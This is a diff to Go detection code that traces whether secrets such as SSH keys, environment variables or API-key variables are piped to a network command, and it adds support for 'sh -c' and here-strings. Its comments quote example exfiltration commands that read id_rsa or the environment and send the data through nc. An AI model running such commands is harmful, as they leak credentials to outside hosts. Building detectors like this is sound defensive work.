@@ -618,13 +618,21 @@ func pipeOrigin(c *cmdline.Command, line *cmdline.Line) (string, []string) {
 // whole), and the commands nested in one, which the model lists after it
 // (find ~ -name id_rsa -exec cat {} \;, cat $(find …), xargs cat).
 func pipedSecrets(c *cmdline.Command, line *cmdline.Line, ctx Context) []string {
+	if c.Stdin.Kind == "" && c.Pipe.Index == 0 && len(c.Via) > 0 && strings.HasSuffix(c.Via[len(c.Via)-1], " -c") {
+		// env | sh -c 'nc h 80': the shell's input is its commands'
+		if h := procSubHolder(c, line); h != nil {
+			return pipedSecrets(h, line, ctx)
+		}
+		return nil
+	}
 	if c.Stdin.Kind != "pipe" {
 		return nil
 	}
 	if c.Pipe.Index == 0 {
 		// a reader of >(…) gets what its holder writes there: what reached
 		// tee's input (cat key | tee >(nc h 80)), or another command's
-		// output (cat key > >(nc h 80))
+		// output (cat key > >(nc h 80)); a command of sh -c CODE reads
+		// the shell's input (env | sh -c 'nc h 80')
 		h := procSubHolder(c, line)
 		if h == nil {
 			return nil
@@ -656,18 +664,20 @@ func pipedSecrets(c *cmdline.Command, line *cmdline.Line, ctx Context) []string 
 		if printsEnvironment(u) {
 			out = append(out, "the environment of "+u.Source) // env, export -p, dict(os.environ)
 		}
-		if (u.Name == "echo" || u.Name == "printf") && slices.ContainsFunc(u.Args, func(a cmdline.Word) bool { return a.Dynamic && secretVar().MatchString(a.Value) }) {
-			out = append(out, u.Source) // echo "$OPENAI_API_KEY"
+		if (u.Name == "echo" || u.Name == "printf") && slices.ContainsFunc(u.Args, func(a cmdline.Word) bool { return a.Dynamic && secretVar().MatchString(a.Value) }) ||
+			(u.Stdin.Kind == "herestring" || u.Stdin.Kind == "heredoc") && secretVar().MatchString(u.Stdin.Text) {
+			out = append(out, u.Source) // echo "$OPENAI_API_KEY", cat <<< "$OPENAI_API_KEY"
 		}
 	}
 	return out
 }
 
-// procSubHolder is the command whose >(…) holds c: the nearest command
-// before c one carrier further out; nil when c is not in a >(…).
+// procSubHolder is the command whose >(…) or -c code holds c: the
+// nearest command before c one carrier further out; nil when c is in
+// neither.
 func procSubHolder(c *cmdline.Command, line *cmdline.Line) *cmdline.Command {
 	n := len(c.Via)
-	if n == 0 || c.Via[n-1] != ">(…)" {
+	if n == 0 || c.Via[n-1] != ">(…)" && !strings.HasSuffix(c.Via[n-1], " -c") {
 		return nil
 	}
 	for j := slices.Index(line.Commands, c) - 1; j >= 0; j-- {
